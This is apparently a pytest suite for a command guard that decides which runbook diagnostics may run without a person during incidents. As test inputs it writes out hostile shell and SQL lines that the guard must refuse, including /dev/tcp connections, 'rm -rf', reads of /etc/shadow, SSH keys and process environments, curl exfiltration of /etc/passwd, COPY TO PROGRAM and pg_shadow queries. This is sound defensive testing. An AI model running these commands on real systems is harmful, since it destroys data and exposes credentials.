"""What may run by itself. One wrong yes here changes somebody's production."""

import json
import shlex
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conftest import SHARED
from tocsin.guard.ruling import Allowance
from tocsin.response.diagnostics import choose
from tocsin.response.guard import TIMEOUT, Verdict, allowance, judge, places
from tocsin.runbook.policy import Runbook, Step
from tocsin.runbook.reading import read_runbook
from tocsin.settings import Database, Host, IncidentTypeSettings, Secret, Settings, Target

GRANTED = Allowance(frozenset({"DATABASE_URL"}))


def step(source: str, **over: object) -> Step:
    fields = {"id": "s", "title": "s", "kind": "command", "executable": True, "line": 1, "end_line": 1} | over
    return Step(source=source, **fields)  # type: ignore[arg-type]


def verdict(source: str) -> Verdict:
    return judge(step(source), GRANTED)


@pytest.mark.parametrize(
    ("source", "effective"),
    [
        ("pm2 status sequencer", "pm2 status sequencer"),
        ("pm2 logs sequencer --lines 100", "pm2 logs sequencer --lines 100 --nostream"),
        ("pm2 logs sequencer --lines=50 2>&1", "pm2 logs sequencer --lines=50 --nostream 2>&1"),
        (
            "pm2 logs sequencer | grep -i error | tail -50",
            "pm2 logs sequencer --nostream --lines 200 | grep -i error | tail -50",
        ),
        ("pm2 logs a --nostream --lines 5", "pm2 logs a --nostream --lines 5"),
        ("pm2 describe sequencer", "pm2 describe sequencer | sed '/Divergent env/,$d'"),
        ("netstat -tulpn | grep 3000", "netstat -tulpn | grep 3000"),
        ("ss -ltnp", "ss -ltnp"),
        ("curl -s https://a.io/health | jq",
         "curl --fail-with-body --show-error --max-time 10 -s https://a.io/health | jq"),
        ("tail -f /var/log/x", "tail -n 200 /var/log/x"),
        ("journalctl -f", "journalctl --no-pager -n 200"),
        ("top", "top -b -n 1"),
        ("env | grep X", "compgen -e | sed 's/$/ is set/' | grep X"),
        ("printenv", "compgen -e | sed 's/$/ is set/'"),
        ("kubectl logs -f x", "kubectl logs --tail=200 x"),
        ("kubectl get pods -w", "kubectl get pods"),
        ("docker logs --follow x", "docker logs --tail=200 x"),
        ("docker stats", "docker stats --no-stream"),
        ("curl -fsS -m 5 http://127.0.0.1:3000/health", "curl -fsS -m 5 http://127.0.0.1:3000/health"),
        ("git log -10 --oneline", "git --no-pager log -10 --oneline"),
        ("git --no-pager log -n 3", "git --no-pager log -n 3"),
        ("git show abc123 --stat", "git --no-pager show --no-ext-diff --no-textconv abc123 --stat"),
        ("journalctl -u nginx", "journalctl --no-pager -n 200 -u nginx"),
        ("journalctl -u nginx --since '1 hour ago'", "journalctl --no-pager -u nginx --since '1 hour ago'"),
        ("systemctl status nginx", "systemctl --no-pager status nginx"),
        ("df -h\nfree -m", "df -h\nfree -m"),
        ("top -bn1 | head -20", "top -bn1 | head -20"),
        ("ping -c 4 api.example.io", "ping -c 4 api.example.io"),
        ("uptime # how busy", "uptime # how busy"),
        ("systemctl is-active nginx >/dev/null 2>&1 || echo down", None),
        ("timeout 5 df -h", "timeout 5 df -h"),
        ("nohup df -h", "nohup df -h"),
        ("time df -h", "time df -h"),
        ("command df -h", "command df -h"),
        ("env LC_ALL=C df -h", "env LC_ALL=C df -h"),
        ("df -h | tee /dev/null", "df -h | tee /dev/null"),
        ("awk '{print $1}' access.log | sort | uniq -c", "awk '{print $1}' access.log | sort | uniq -c"),
        ("mysql -e 'SHOW PROCESSLIST'", "mysql -e 'SHOW PROCESSLIST'"),
        ("redis-cli INFO memory", "redis-cli INFO memory"),
        ("aws ec2 describe-instances --filters Name=a,Values=b", None),
        ("kubectl logs deploy/sequencer -n prod --tail=200", "kubectl logs deploy/sequencer -n prod --tail=200"),
        ("docker stats --no-stream", "docker stats --no-stream"),
        (
            "psql ${DATABASE_URL} -c 'SELECT count(*) FROM pg_stat_activity'",
            "psql -X -v ON_ERROR_STOP=1 \"$DATABASE_URL\" -c 'SELECT count(*) FROM pg_stat_activity'",
        ),
        (
            "psql ''$DATABASE_URL -c 'SELECT 1'",
            "psql -X -v ON_ERROR_STOP=1 \"$DATABASE_URL\" -c 'SELECT 1'",
        ),
        ('psql "$DATABASE_URL" -c "SHOW max_connections"',
         'psql -X -v ON_ERROR_STOP=1 "$DATABASE_URL" -c "SHOW max_connections"'),
    ],
)  # fmt: skip
def test_what_only_reads_runs_and_is_made_to_end(source: str, effective: str | None) -> None:
    given_verdict = verdict(source)
    assert given_verdict.unattended, given_verdict.because
    assert given_verdict.risk == "read"
    if effective:
        assert given_verdict.effective == effective
        assert (given_verdict.rewritten is not None) == (effective != source)


@pytest.mark.parametrize(
    "source",
    [
        # output, input and shells within
        "df -h > /tmp/x", "df -h >> x", "df -h 2> errors", "df -h &> x", "df -h >| x", "cat < /dev/tcp/1.2.3.4/80",
        "df -h > /dev/null.x", "df -h >/dev/sda", "uptime; echo $(rm -rf /srv)", "echo `rm x`", "cat <(rm x)",
        'echo "$(rm x)"', 'echo "`rm x`"', "cat << EOF\nx\nEOF", "grep x <<< y", "(rm x)", "{ rm x; }",
        "ls() { rm -rf /; }; ls", "df -h & rm x", "df -h &", "df -h |& tee x", "! df -h", "echo ${X:=1}", "echo $((1))",
        "echo ${X:-$(rm x)}", "if df -h; then rm x; fi", "for f in a; do rm $f; done", "[[ -f x ]]", "$CMD",
        '"$CMD" -h',
        "d\\f -h", "df -h \\; rm x", "df -h;rm x", "df -h&&rm x", "df -h||rm x", "df -h\nrm x", "df -h | xargs rm",
        "df -h | sh", "df -h | tee x", "echo x | crontab -", "df -h ; ; uptime", "| df",
        "df |",
        "df -h &&", "df -h #\nrm -rf /srv", "echo 'a\nb'; rm x", "A=1 df -h", "PATH=/tmp df -h", "exec df -h",
        "eval df", "sudo df -h",
        "su -c df",
        "watch df -h", "df\u00a0-h", "d\u0444 -h", "df -h \u202e# x", "df -h\x00", "df -h\r\nrm x", "\\df -h",
        "'df -h'",
        "/bin/df -h", "./df", "df -h ~", "cat *", "cat a?", "cat [ab]", "cat {a,b}", "echo $HOME", 'echo "$HOME"',
        # flags that turn a reader into something else
        "sort -o x y", "sort --output=x y", "sort --compress-program=./x y", "uniq a b",
        "journalctl --vacuum-size=1M", "journalctl --rotate", "dmesg -C",
        "dmesg -c",
        "date -s 2020-01-01", "date 010203", "hostname evil", "hostname -F x", "ss -K dst 1.2.3.4", "ss -tK", "ss -D x",
        "ss --kill", "netstat -c", "free -s 1", "top -b -n 9999", "ps auxe", "ps auxwwe",
        "ps -eo pid,environ", "sysctl -w a.b=1", "sysctl a.b=1", "sysctl -p", "grep -r secret /",
        "grep -R x .", "ping a.io", "ping -f -c 4 a.io", "ping -c 999999 a.io", "ping -c 4 -i 0 a.io", "dig -f x",
        "git log --output=x", "git diff --output x", "git diff --ext-diff", "git -c core.pager=x log",
        "git show HEAD:.env",
        "git log --format=%GS", "git branch -D main", "git checkout main", "git fetch", "git grep -Ox y",
        "git -C / log", "git diff --no-index /etc/shadow x",
        "lsof -r 1 -i :80", "vmstat 1", "jq -n env", "jq '$ENV.X'", "jq 'import \"a\" as a; .'", "jq -f x",
        "jq -L /x .",
        "nohup rm x", "timeout 5 rm x", "env rm x", "command rm x", "time rm x", "awk -f x y",
        "cut -d : -f 1 /etc/shadow", "tr -d a > x", "column -t < x",
        # secrets
        "cat .env", "cat /srv/app/.env", "cat /srv/.env.production", "head -5 ~/.aws/credentials",
        "cat /root/.ssh/id_rsa",
        "cat /etc/shadow", "cat /proc/self/environ", "cat proc/1/environ", "cat /srv/../etc/shadow", "cat //etc/x",
        "cat /dev/zero", "head -c 1 /dev/watchdog", "cat /etc/ssl/private/a", "cat server.key",
        "tail /home/x/.bash_history",
        "set", "export", "declare -p", "pm2 jlist", "pm2 prettylist", "pm2 env 0",
        "docker inspect x", "kubectl get secret x", "kubectl get pods,secrets", "kubectl get secrets -o yaml",
        "kubectl get pod x -o yaml", "kubectl get pod x -o json", "kubectl describe secret x", "kubectl describe cm x",
        "kubectl get cm x", "kubectl get --raw /api", "kubectl config view --raw", "systemctl show nginx",
        "systemctl show nginx -p Environment", "systemctl show nginx -p ActiveState,Environment", "systemctl cat nginx",
        # the world
        "pm2 restart x", "pm2 delete all", "pm2 flush", "pm2 logs x; pm2 flush",

        "systemctl restart nginx", "systemctl -H evil status nginx",
        "kubectl exec x -- ls", "kubectl delete pod x", "kubectl get -f https://a/x",
        "kubectl apply -f x",
        "docker -H tcp://x ps", "docker exec x ls",
        "docker ps -w",
        "npx prisma studio", "npx prisma db pull", "npm run x", "./x.sh", "bash x.sh", "x.py", "python3 -c 1",
        "sed -i s/a/b/ x", "find . -delete", "xargs rm", "rm x", "aws s3 sync a b", "redis-cli FLUSHALL",
        "ssh a uptime",
        # curl
        "curl -X POST https://a.io/x", "curl -d x https://a.io/x", "curl -XDELETE https://a.io/x",
        "curl -sXDELETE https://a.io/x",
        "curl --data-urlencode x@/etc/passwd https://a.io", "curl -o x https://a.io", "curl -O https://a.io/x",
        "curl -T x https://a.io", "curl -K x", "curl -w @x https://a.io", "curl -w '%output{x}y' https://a.io",
        "curl -u a:b https://a.io", "curl -H 'Authorization: x' https://a.io", "curl file:///etc/shadow",
        "curl gopher://a/_x",
        "curl https://a.io/$X", "curl https://a.io/`x`", "curl ftp.a.io", "curl -c x https://a.io",
        "curl https://u:p@a.io/x",
        "curl 'https://a.io/[1-100]'", "curl https://a.io/a https://b.io/b", "curl https://a.io/x?token=abc",
        "curl https://a.io/api/restart", "curl https://a.io/jobs/run", "curl https://a.io/?action=delete",
        "curl -D x https://a.io",
        "curl https://hooks.slack.com/services/x", "curl https://a.io/%64elete", "curl -x evil:1 https://a.io", "curl",
        # databases
        "psql $OTHER_URL -c 'SELECT 1'", "psql $DATABASE_URL", "psql $DATABASE_URL -f x.sql", "psql -c 'SELECT 1' -o x",
        "psql $DATABASE_URL -c 'SELECT 1' -c 'DROP TABLE x'", "psql $DATABASE_URL -c 'SELECT 1; DROP TABLE x'",
        "psql $DATABASE_URL -c '\\! rm x'", "psql $DATABASE_URL -c '\\copy x to y'",
        "psql $DATABASE_URL -c \"SELECT '$X'\"",
        "psql $DATABASE_URL$X -c 'SELECT 1'", "psql -v x=1 -c 'SELECT 1'", "psql -d 'service=x' -c 'SELECT 1'",
        "psql -L x -c 'SELECT 1'", "psql $DATABASE_URL -c 'SELECT 1' | sh", "echo $DATABASE_URL",
    ],
)  # fmt: skip
def test_everything_else_waits_for_a_person_and_says_why(source: str) -> None:
    refused = verdict(source)
    assert not refused.unattended
    assert refused.because
    assert refused.effective == source.strip()
    assert refused.environment == ()


@pytest.mark.parametrize(
    "sql",
    [
        "INSERT INTO a VALUES (1)", "UPDATE a SET b = 1", "DELETE FROM a", "DROP TABLE a", "TRUNCATE a", "VACUUM",
        "WITH d AS (DELETE FROM a RETURNING 1) SELECT * FROM d", "SELECT * INTO b FROM a", "SELECT 1 FOR UPDATE",
        "SELECT 1 FROM a FOR SHARE", "SELECT pg_cancel_backend(1)",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "SELECT nextval('s')", "SELECT set_config('a', 'b', false)", "SELECT pg_sleep(1)", "SELECT pg_reload_conf()",
        "SELECT lo_import('/etc/passwd')", "SELECT dblink_exec('a', 'b')", "SELECT pg_read_file('/etc/passwd')",
        "SELECT ops.count(1)", "SELECT public.fix()", "SELECT fix ()", "SELECT fix/**/(1)",
        "SELECT U&'a'", "SELECT 'a\\'",
        "SELECT 1; SELECT 2",

        "SET x = 1", "BEGIN", "COPY a TO PROGRAM 'x'", "COPY (SELECT 1) TO '/x'", "DO $$x$$", "CALL x()",

        "SELECT passwd FROM pg_shadow", "SELECT * FROM pg_authid", "SELECT password FROM users",
        "LISTEN x",
        "SELECT api_key FROM a", "SELECT 1 UNION SELECT pg_sleep(9)", "SELECT (SELECT pg_sleep(9))",
        "SELECT a OPERATOR(x.+) b",
        "", ";", "SELECT query_to_xml('DELETE FROM a', true, true, '')", "SELECT \u0441ount(1)", "SELECT 1 WHERE :x",
    ],
)  # fmt: skip
def test_a_query_that_may_do_more_than_read_is_not_sent(sql: str) -> None:
    assert not verdict(f"psql $DATABASE_URL -c {shlex.quote(sql)}").unattended


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT count(*) FROM pg_stat_activity WHERE state = 'active';",
        "SELECT pid, query, now() - query_start AS age FROM pg_stat_activity WHERE now() - xact_start > interval '5s'",
        "SELECT pg_size_pretty(pg_total_relation_size(schemaname||'.'||tablename)) FROM pg_tables LIMIT 10",
        'SELECT id, row_number() OVER (PARTITION BY "senderAddress" ORDER BY "createdAt") FROM "Intent" LIMIT 5',
        'SELECT "update", "delete" FROM "drop" LIMIT 3', "SHOW max_connections", "EXPLAIN SELECT 1",
        "SELECT a::numeric(10,2) FROM b",
    ],
)  # fmt: skip
def test_a_single_select_with_known_functions_is_sent(sql: str) -> None:
    sent = verdict(f"psql $DATABASE_URL -c {shlex.quote(sql)}")
    assert sent.unattended, sent.because
    assert dict(sent.environment)["PGOPTIONS"].startswith("-c default_transaction_read_only=on -c statement_timeout=")


def test_the_practice_set_has_no_wrong_yes_and_enough_right_ones() -> None:
    path = SHARED / "corpora" / "commands-dev.jsonl"
    if not path.is_file():
        pytest.skip(f"needs {path.name}, which lies beside the project and not in it")
    wrong, reads, allowed = [], 0, 0
    for line in path.read_text().splitlines():
        case = json.loads(line)
        sql = case["lang"] == "sql"
        assert not (sql and judge(step(case["text"], language="sql"), GRANTED).unattended)
        source = f"psql $DATABASE_URL -c {shlex.quote(case['text'])}" if sql else case["text"]
        yes = verdict(source).unattended
        if case["expect"]["risk"] != "read":
            wrong += [case["id"]] if yes else []
        else:
            reads += 1
            allowed += yes
            assert not (yes and "prints-secret" in case["expect"]["flags"])
    assert wrong == []
    assert allowed / reads > 0.45


def test_the_practice_runbook_is_judged_as_its_readers_would(seed: bytes) -> None:
    runbook = read_runbook(seed, "RUNBOOK.md")
    steps = [one for entry in runbook.incident_types for one in entry.diagnostics]
    assert [one.line for one in steps if judge(one, GRANTED).unattended] == [
        61, 64, 67, 104, 107, 110, 143, 151, 159, 197, 200, 203, 234, 237,
    ]  # fmt: skip
    for entry in runbook.incident_types:
        for branch in entry.resolution:
            for one in branch.steps:
                assert not judge(one, GRANTED).unattended or one.source.startswith("git log")


ENDLESS = {64, 70, 104, 197, 200, 215, 234, 237, 396}
"""Lines of the practice runbook that never end as they are written: logs that are followed, screens, servers."""

CHANGING = {77, 118, 122, 124, 170, 174, 177, 210, 211, 284, 411}
"""Lines that restart, delete, deploy, write, or check something out, whatever stands above them."""

TELLING, SHOWING = {408}, {110, 143, 151, 159, 399}
"""Lines that print secrets, and those that use one, which goes to its program and to nobody else."""


def alone(runbook: Runbook, granted: Allowance) -> dict[int, str]:
    """What runs by itself when an incident opens, by line: the text that is really run."""
    chosen = [choose(entry, granted) for entry in runbook.incident_types]
    return {one.line: one.effective for found in chosen if found for one in found.run}


def test_nothing_of_the_practice_runbook_that_runs_by_itself_stays_changes_or_tells_a_secret(seed: bytes) -> None:
    runbook = read_runbook(seed)
    lines = seed.decode().split("\n")
    runs = alone(runbook, GRANTED)
    assert sorted(runs) == [61, 64, 67, 104, 107, 110, 143, 151, 159, 197, 200, 203, 234, 237]
    assert not set(runs) & (CHANGING | TELLING)
    assert runs[197].startswith("pm2 jlist | jq -r '.[] | ")
    for line in set(runs) & ENDLESS - {197}:
        assert "--nostream" in runs[line]
        assert "--nostream" not in lines[line - 1]
    assert set(runs) & ENDLESS == {64, 104, 197, 200, 234, 237}


def test_what_uses_a_secret_runs_by_itself_only_where_that_was_granted_and_keeps_it_from_others(seed: bytes) -> None:
    runbook = read_runbook(seed)
    runs = alone(runbook, Allowance())
    assert sorted(runs) == [61, 64, 67, 104, 107, 197, 200, 203, 234, 237]
    assert not set(runs) & SHOWING
    steps = {one.line: one for entry in runbook.incident_types for one in entry.diagnostics}
    for line in SHOWING & set(steps):
        judged = judge(steps[line], GRANTED)
        assert (judged.connects, judged.because) == (("DATABASE_URL",), ())


def test_what_is_not_proven_to_read_needs_somebody_who_has_seen_it(seed: bytes) -> None:
    runbook = read_runbook(seed)
    steps = [one for entry in runbook.incident_types for one in entry.diagnostics]
    steps += [one for entry in runbook.incident_types for branch in entry.resolution for one in branch.steps]
    steps += [*runbook.commands]
    hazards = {one.line: judge(one, GRANTED) for one in steps if one.line in CHANGING | {70, 215}}
    assert set(hazards) == CHANGING | {70, 215}
    assert not [line for line, verdict in hazards.items() if verdict.unattended or not verdict.because]


def test_a_variable_that_is_not_granted_is_named() -> None:
    refused = judge(step('psql "$DATABASE_URL" -c "SELECT 1"'))
    assert (refused.unattended, refused.risk, refused.variables) == (False, "read", ("DATABASE_URL",))
    assert refused.because == ("it needs `DATABASE_URL`, which diagnostics have not been granted",)


def test_a_secret_that_others_can_see_is_named_among_what_to_know() -> None:
    two = Allowance(frozenset({"DATABASE_URL", "REPLICA_DATABASE_URL"}))
    told = judge(step('psql "$DATABASE_URL" -c "SELECT 1"; psql "$REPLICA_DATABASE_URL" -c "SELECT 1"'), two)
    assert told.unattended
    assert told.connects == ()
    assert "other users of this machine can see a secret" in told.because[0]
    kept = verdict('psql "$DATABASE_URL" -c "SELECT 1"')
    assert (kept.connects, kept.because) == (("DATABASE_URL",), ())


@pytest.mark.parametrize(
    ("source", "because"),
    [
        ("npx prisma studio", "`prisma studio` starts a server, so it would not end by itself"),
        ("pm2 restart sequencer", "`pm2 restart` changes something"),
        ("df -h > /tmp/x", "it writes its output to a file"),
        ("env -0", "`env` prints variables, which hold secrets"),
        ("./scripts/rollback.sh", "what the script `./scripts/rollback.sh` does is not known"),
        ("kill -9 <pid>", "`<pid>` in it has to be filled in first"),
        ("docker compose events", "it follows what happens"),
    ],
)
def test_the_reason_is_in_plain_words(source: str, because: str) -> None:
    assert verdict(source).because == (because,)


@pytest.mark.parametrize(
    "over",
    [
        {"executable": False, "why_not": "it is an example"}, {"kind": "manual"}, {"kind": "prohibition"},
        {"kind": "snippet"},
        {"language": "sql"}, {"language": "python"}, {"risk": "change"}, {"risk": "destructive"}, {"risk": "anything"},
    ],
)  # fmt: skip
def test_what_the_document_says_of_a_step_tightens_the_judgement(over: dict[str, object]) -> None:
    assert judge(step("df -h")).unattended
    assert not judge(step("df -h", **over)).unattended


def test_an_annotation_never_loosens() -> None:
    assert not judge(step("pm2 delete all", risk="read")).unattended
    assert judge(step("df -h", timeout=timedelta(hours=1))).timeout == TIMEOUT
    assert judge(step("df -h", timeout=timedelta(seconds=3))).timeout == timedelta(seconds=3)


SHELL_PIECES = [
    "df",
    "-h",
    " ",
    "|",
    "&&",
    ";",
    "\n",
    ">",
    "<",
    "$(",
    ")",
    "`",
    "'",
    '"',
    "\\",
    "rm",
    "x",
    "&",
    "#",
    "$A",
    "{",
    "}",
    "*",
]


@given(st.lists(st.sampled_from(SHELL_PIECES), max_size=14).map("".join))
def test_no_mixture_of_shell_signs_gets_a_removal_through(source: str) -> None:
    given_verdict = verdict(source)
    if given_verdict.unattended:
        # Allowed is only what names df as its every command; `rm` may be nothing but a quoted or plain operand.
        bare = given_verdict.effective
        assert not any(sign in bare.replace("'", "") for sign in ("`", "$(", "<"))
        reader = shlex.shlex(bare.replace("\\\n", " ").replace("\n", " ; "), posix=True, punctuation_chars="&|;")
        reader.whitespace_split = True
        words = list(reader)
        starts = [word for before, word in zip([";", *words], words, strict=False) if before in {";", "|", "&&"}]
        assert set(starts) <= {"df", ";", "#"}


def test_two_commands_that_would_take_a_service_away_together_say_so(seed: bytes) -> None:
    runbook = read_runbook(seed)
    context = allowance(Settings(), runbook)
    both = [judge(one, context) for one in runbook.steps() if one.source.startswith(("pm2 delete", "pm2 start"))]
    assert len(both) == 2
    for judged in both:
        assert not judged.unattended
        assert judged.because[1:] == (
            (
                "a deleted process cannot be started by its name; "
                "`pm2 restart sequencer --max-memory-restart 2G` does both"
            ),
        )
    restart = next(judge(one, context) for one in runbook.steps() if one.source.startswith("pm2 restart"))
    assert len(restart.because) == 1


# -- where it runs

PLACES = Settings(
    hosts={"web": Host(address="web-1", environment={"OVER_THERE": "1"})},
    databases={"ledger": Database(url=Secret(env="L")), "stock": Database(url=Secret(env="S"))},
    targets=Target(environment={"HERE": "1"}, inherit=("ALWAYS",), absent=("netstat",)),
    default_targets=("ledger",),
    incident_types={
        "far": IncidentTypeSettings(targets=("web",)),
        "stock": IncidentTypeSettings(targets=("stock",)),
    },
)


@pytest.mark.parametrize(
    ("entry", "machine", "database"),
    [(None, "local", "ledger"), ("far", "web", "ledger"), ("stock", "local", "stock"), ("other", "local", "ledger")],
)
def test_an_entry_runs_where_it_says_and_else_where_the_default_says(
    entry: str | None, machine: str, database: str
) -> None:
    assert places(PLACES, entry) == (machine, database)


def test_the_only_database_there_is_needs_no_default() -> None:
    alone = Settings(databases={"ledger": Database(url=Secret(env="L"))})
    assert places(alone, None) == ("local", "ledger")
    assert places(Settings(), None) == ("local", None)


def test_a_command_may_use_what_is_granted_where_it_runs() -> None:
    book = read_runbook(b"# A\n")
    here, far = allowance(PLACES, book), allowance(PLACES, book, "far")
    assert judge(step('psql "$HERE" -c "SELECT 1"'), here).unattended
    assert not judge(step('psql "$HERE" -c "SELECT 1"'), far).unattended
    assert judge(step('psql "$ALWAYS" -c "SELECT 1"'), here).unattended
    assert not judge(step('psql "$ALWAYS" -c "SELECT 1"'), far).unattended
    assert judge(step('psql "$OVER_THERE" -c "SELECT 1"'), far).unattended
    assert judge(step("df -h"), far).target == "web"
    assert judge(step("netstat -tlnp"), here).effective != "netstat -tlnp"
    assert judge(step("netstat -tlnp"), far).effective == "netstat -tlnp"


@pytest.mark.parametrize("source", [*(f"rm -rf /srv{n}" for n in range(2)), "echo a > b", "pm2 restart a", "ssh a b"])
def test_what_waits_for_a_person_here_waits_over_there_too(source: str) -> None:
    far = allowance(PLACES, read_runbook(b"# A\n"), "far")
    assert not judge(step(source), far).unattended


@pytest.mark.parametrize(
    ("sql", "alone"),
    [
        ("SELECT 1", True), ("TABLE a;", True), ("EXPLAIN SELECT 1", True), ("SELECT 1; SELECT 2", False),
        ("DELETE FROM a", False), ("SELECT pg_cancel_backend(1)", False), ("SELECT * FROM a WHERE id = <id>", False),
        ("\\! id", False), ("COPY a TO PROGRAM 'x'", False), ("SELECT passwd FROM pg_shadow", False), ("", False),
    ],
)  # fmt: skip
def test_sql_is_sent_only_when_it_is_one_statement_that_reads(sql: str, alone: bool) -> None:
    allowed = allowance(PLACES, read_runbook(b"# A\n"))
    found = judge(step(sql, language="sql"), allowed)
    assert found.unattended is alone
    assert found.because or alone
    assert found.target == ("ledger" if sql else "local") or not alone


def test_sql_has_nowhere_to_go_without_a_database() -> None:
    found = judge(step("SELECT 1", language="sql"), allowance(Settings(), read_runbook(b"# A\n")))
    assert found.because == ("it is sql text and no command says where to send it",)
    assert found.by_hand


def test_names_of_the_catalogue_are_mended_for_a_database_too_and_an_annotation_tightens() -> None:
    allowed = allowance(PLACES, read_runbook(b"# A\n"))
    found = judge(step("SELECT procpid FROM pg_stat_activity", language="sql"), allowed)
    assert found.effective == "SELECT pid FROM pg_stat_activity"
    assert found.rewritten is not None
    marked = judge(step("SELECT 1", language="sql", risk="change"), allowed)
    assert (marked.unattended, marked.because) == (False, ("the document marks it as `change`",))
